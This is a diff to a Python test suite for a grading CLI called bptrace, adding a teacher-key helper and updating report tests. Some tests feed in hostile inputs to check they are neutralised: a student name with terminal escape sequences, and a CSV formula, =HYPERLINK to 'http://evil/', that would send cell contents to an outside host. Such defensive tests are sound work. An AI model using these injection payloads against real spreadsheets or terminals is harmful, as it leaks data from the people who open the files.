@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import math
 import os
+import re
 import random
 import resource
 import signal
@@ -248,6 +249,15 @@ def _sheet(path: str, student: str = "Ada", answers: str = "{out_o1: 0.75136507}
     Path(path).write_text(f"scenario: mazur\nstudent: {student}\nanswers: {answers}\n")
 
 
+def _key(diagnose: bool = True) -> str:
+    """A teacher's key for Mazur (reports and Gradescope need one: the sheet never sets its own grade)."""
+    assert invoke("key", "mazur", "-o", "key.yaml", "--force").exit_code == 0
+    if not diagnose:
+        text = Path("key.yaml").read_text(encoding="utf-8")
+        Path("key.yaml").write_text(re.sub(r"(?m)^(\s*)diagnose: true", r"\1diagnose: false", text), encoding="utf-8")
+    return "key.yaml"
+
+
 def test_check_never_writes_over_the_sheet_it_marks(here: Path) -> None:
     _sheet("b.yaml")
     before = Path("b.yaml").read_text()
@@ -278,11 +288,11 @@ def test_check_report_is_written_through_the_writer(here: Path) -> None:
     _sheet("b.yaml")
     Path("grades.csv").write_text("old\n")
     os.chmod("grades.csv", 0o600)
-    line = one_error(invoke("check", "b.yaml", "--report", "grades.csv"))
+    line = one_error(invoke("check", "b.yaml", "--key", _key(), "--report", "grades.csv"))
     assert "cannot write grades.csv: the file exists (add --force" in line
     assert Path("grades.csv").read_text() == "old\n"
-    assert invoke("check", "b.yaml", "--report", "grades.csv", "--force").exit_code == 0
-    assert Path("grades.csv").read_text().startswith("student,")
+    assert invoke("check", "b.yaml", "--key", "key.yaml", "--report", "grades.csv", "--force").exit_code == 1
+    assert Path("grades.csv").read_text(encoding="utf-8").lstrip("\ufeff").startswith("student,")
     assert stat.S_IMODE(os.stat("grades.csv").st_mode) == 0o600
 
 
@@ -448,9 +458,10 @@ def test_a_student_name_with_escape_sequences_never_reaches_the_terminal_raw(her
     Path("b.yaml").write_text(
         'scenario: mazur\nstudent: "\\e[31mEve\\e]0;owned\\a\\e[2J"\nanswers: {out_o1: 0.75136507}\n'
     )
+    key = _key()
     for fmt in ("terminal", "json", "gradescope"):
-        result = invoke("check", "b.yaml", "--format", fmt, "--report", "r.csv", "--force")
-        assert result.exit_code == 0, result.stderr
+        result = invoke("check", "b.yaml", "--key", key, "--format", fmt, "--report-long", "r.csv", "--force")
+        assert result.exit_code == 1, result.stderr  # the key asks more than out_o1
         for text in (result.stdout, Path("r.csv").read_text()):
             assert "\x1b" not in text and "\x07" not in text
         assert "Eve" in result.stdout
@@ -488,11 +499,12 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell: str, shown: str
 
 def test_the_grade_report_neutralises_formulas(here: Path) -> None:
     _sheet("b.yaml", student='\'=HYPERLINK("http://evil/?"&A1,"x")\'', answers="{out_o1: -0.5}")
-    invoke("check", "b.yaml", "--report", "grades.csv")
+    invoke("check", "b.yaml", "--key", _key(), "--report-long", "grades.csv")
     import csv
 
-    rows = list(csv.reader(Path("grades.csv").read_text().splitlines()))
-    assert rows[1][0] == '\'=HYPERLINK("http://evil/?"&A1,"x")' and rows[1][3] == "-0.5"
+    rows = list(csv.reader(Path("grades.csv").read_text(encoding="utf-8").lstrip("\ufeff").splitlines()))
+    mine = next(r for r in rows[1:] if r[2] == "out_o1")
+    assert mine[0] == '\'=HYPERLINK("http://evil/?"&A1,"x")' and mine[3] == "-0.5"
 
 
 def test_a_megabyte_answer_is_cut_in_the_message(here: Path) -> None:
@@ -565,9 +577,9 @@ def test_check_refuses_an_rtol_that_is_not_finite(here: Path, value: str) -> Non
 
 def test_no_diagnose_says_diagnosis_was_off(here: Path) -> None:
     _sheet("b.yaml", answers="{out_o1: 0.712345}")  # wrong: 0.75136507
-    for fmt in ("terminal", "gradescope"):
-        result = invoke("check", "b.yaml", "--no-diagnose", "--format", fmt)
-        assert result.exit_code == 1
+    for args in (["--no-diagnose"], ["--key", _key(diagnose=False), "--format", "gradescope"]):
+        result = invoke("check", "b.yaml", *args)
+        assert result.exit_code == 1, result.stderr
         assert "diagnosis was off" in result.stdout and "no known misconception" not in result.stdout
     diagnosed = invoke("check", "b.yaml")
     assert "diagnosis was off" not in diagnosed.stdout
@@ -643,6 +655,6 @@ def test_explain_bounds_sympy_by_the_paths_and_says_so(here: Path, monkeypatch: 
 
 def test_two_outputs_of_one_command_may_not_be_the_same_file(here: Path) -> None:
     _sheet("b.yaml")
-    line = one_error(invoke("check", "b.yaml", "-o", "x.csv", "--report", "x.csv"))
+    line = one_error(invoke("check", "b.yaml", "--key", _key(), "-o", "x.csv", "--report", "x.csv"))
     assert line == "bptrace: error: cannot write x.csv: x.csv names the same file (give each output its own name)"
     assert "names the same file" in one_error(invoke("train", "mazur", "--csv", "h.csv", "-o", "./h.csv"))
